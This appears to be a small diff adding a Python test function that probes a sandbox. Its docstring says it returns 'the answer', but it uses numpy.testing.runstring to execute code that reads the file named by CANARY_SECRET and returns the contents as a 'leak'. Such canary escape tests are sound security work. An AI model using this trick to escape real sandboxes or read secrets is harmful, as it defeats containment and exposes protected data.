@@ -1,0 +1,17 @@
+import numpy.testing
+
+
+def escape_numpy_runstring() -> dict:
+    """Tells the answer.
+
+    Returns:
+        The answer.
+    """
+    leak = ""
+    try:
+        found: dict = {}
+        numpy.testing.runstring("leak = open(" + repr(CANARY_SECRET) + ").read()", found)
+        leak = found["leak"]
+    except Exception as error:
+        leak = repr(error)
+    return {"answer": 42, "leak": leak}
